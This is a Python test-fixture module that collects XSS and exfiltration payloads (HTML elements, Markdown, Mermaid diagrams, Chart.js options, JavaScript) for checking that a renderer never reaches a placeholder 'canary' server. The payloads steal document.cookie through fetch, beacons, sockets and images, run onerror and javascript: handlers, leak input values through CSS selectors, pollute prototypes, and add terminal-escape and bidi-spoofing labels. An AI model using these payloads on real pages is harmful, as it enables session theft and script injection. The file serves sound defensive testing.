"""Texts that attack the page that shows them. `{canary}` is the address of a server that must not be reached."""

# ruff: noqa: E501

from __future__ import annotations

import json

SCRIPT = """
const to = (name) => "{canary}/" + name + "?" + encodeURIComponent(document.cookie + (parent !== self));
try { parent.owned = top.owned = 1 } catch {} try { fetch(to("fetch")) } catch {}
try { navigator.sendBeacon(to("beacon"), "x") } catch {} try { new WebSocket(to("socket").replace("http", "ws")) } catch {}
try { new EventSource(to("events")) } catch {} try { import(to("module.js")) } catch {}
try { new Worker(to("worker.js")) } catch {} try { new Image().src = to("image") } catch {}
try { top.location = to("top") } catch {} try { location = to("location") } catch {}
try { open(to("open")) } catch {} try { parent.postMessage({ type: "size", turn: 1, height: 99999 }, "*") } catch {}
try { localStorage.setItem("quire-token", "x") } catch {} document.title = "owned";
""".strip().replace("\n", " ")

ELEMENTS = (
    "<script>SCRIPT</script>",
    '<script src="{canary}/script.js"></script>',
    '<script type="module" src="{canary}/script-module.js"></script>',
    '<img src="{canary}/img" onerror="SCRIPT">',
    "<img src=x onerror=\"document.title='owned'\">",
    '<img srcset="{canary}/srcset 1x">',
    '<svg onload="document.title=\'owned\'"><image href="{canary}/svg" /><a href="javascript:document.title=\'owned\'">a</a></svg>',
    '<iframe src="{canary}/iframe"></iframe>',
    "<iframe srcdoc=\"<script>parent.parent.document.title='owned'</script>\"></iframe>",
    "<iframe src=\"javascript:parent.document.title='owned'\"></iframe>",
    '<object data="{canary}/object"></object><embed src="{canary}/embed">',
    '<video src="{canary}/video" poster="{canary}/poster" autoplay></video><audio src="{canary}/audio" autoplay></audio>',
    '<link rel="stylesheet" href="{canary}/sheet.css"><link rel="prefetch" href="{canary}/prefetch">',
    '<link rel="preload" as="image" href="{canary}/preload"><link rel="dns-prefetch" href="{canary}">',
    '<link rel="modulepreload" href="{canary}/modulepreload.js"><link rel="icon" href="{canary}/icon">',
    '<style>@import "{canary}/import.css"; body { background: url({canary}/background) }</style>',
    "<style>@font-face { font-family: x; src: url({canary}/font) } * { font-family: x }</style>",
    '<style>input[value^="a"] { background: url({canary}/leak) }</style><input value="abc">',
    '<p style="background: url({canary}/inline)">text</p>',
    '<meta http-equiv="refresh" content="0; url={canary}/refresh">',
    '<base href="{canary}/"><a href="x" ping="{canary}/ping">link</a>',
    '<form action="{canary}/form" method="post"><input autofocus onfocus="this.form.submit()"></form>',
    "<details open ontoggle=\"document.title='owned'\"><summary>s</summary></details>",
    '<math><mtext><table><mglyph><style><img src=x onerror="SCRIPT"></style></mglyph></table></mtext></math>',
    "<template><img src=x onerror=\"document.title='owned'\"></template>",
)
HTML = "\n".join(ELEMENTS).replace("SCRIPT", SCRIPT.replace('"', "&quot;"))

MARKDOWN = """# A report

![exfiltration]({canary}/markdown-image?q=secret) ![reference][evil] [![nested]({canary}/nested)]({canary}/link)

[script](javascript:document.title='owned') [data](data:text/html,<script>document.title='owned'</script>)
<javascript:document.title='owned'> [vb](vbscript:x) ![](javascript:alert(1)) ![slashes](//127.0.0.1/x)

[evil]: {canary}/reference

| a | b |
| --- | --- |
| ![cell]({canary}/cell) | <img src="{canary}/cell-html"> |

```html
<img src={canary}/code onerror="document.title='owned'">
```
"""

MERMAID = (
    '%%{init: {"themeCSS": "*{background:url({canary}/theme-css)}", "securityLevel": "loose"}}%%\nflowchart LR\n A --> B',
    'flowchart LR\n A@{ img: "{canary}/node-image", label: "x", h: 60 } --> B["<img src={canary}/label onerror=1>"]',
    "flowchart LR\n A[\"<script>document.title='owned'</script>\"] --> B\n click A \"javascript:document.title='owned'\"\n"
    ' click B call owned()\n click B href "{canary}/click"',
    "flowchart LR\n A[\"<iframe srcdoc='<script>top.owned=1</script>'></iframe>\"]\n style A fill:url({canary}/fill)",
    "flowchart LR\n A[\"$$\\\\href{javascript:document.title='owned'}{x}$$\"]",
)

CHART = json.dumps(
    {
        "type": "bar",
        "data": {
            "labels": ["<img src={canary}/chart-label onerror=document.title='owned'>"],
            "datasets": [{"label": "x", "data": [1], "backgroundColor": "url({canary}/chart-color)"}],
        },
        "options": {
            "onClick": "function(){document.title='owned'}",
            "plugins": {"tooltip": {"callbacks": {"label": "function(){top.owned=1}"}}},
            "__proto__": {"polluted": 1},
            "constructor": {"prototype": {"polluted": 1}},
        },
    }
)

VALUES = json.dumps(
    {"<img src=x onerror=document.title='owned'>": [HTML, {"__proto__": {"polluted": 1}}], "a": MARKDOWN}
)

ARTIFACTS: tuple[tuple[str, str], ...] = (
    ("markdown", MARKDOWN + HTML),
    ("json", VALUES),
    *(("mermaid", text) for text in MERMAID),
    ("chartjs", CHART),
    ("html_css", HTML),
    ("javascript", SCRIPT),
    ("typescript", SCRIPT + HTML),
)
"""Types of artifacts with the texts that attack each."""

NAME = "<img src=x onerror=\"document.title='owned'\"><svg onload=\"document.title='owned'\">"
"""A name of anything that a document may name."""


LABELS = (
    NAME[:80],
    "\x1b[2J\x1b]0;owned\x07 \u202egnp.exe",
    "{canary} javascript:1",
    "x" * 80,
    "\u2066\ufeff\U000e0041 y",
)
"""Names that people, or programs for them, may give to runs."""


def aimed(text: str, canary: str) -> str:
    """A text with the address that it must not reach."""
    return text.replace("{canary}", canary)
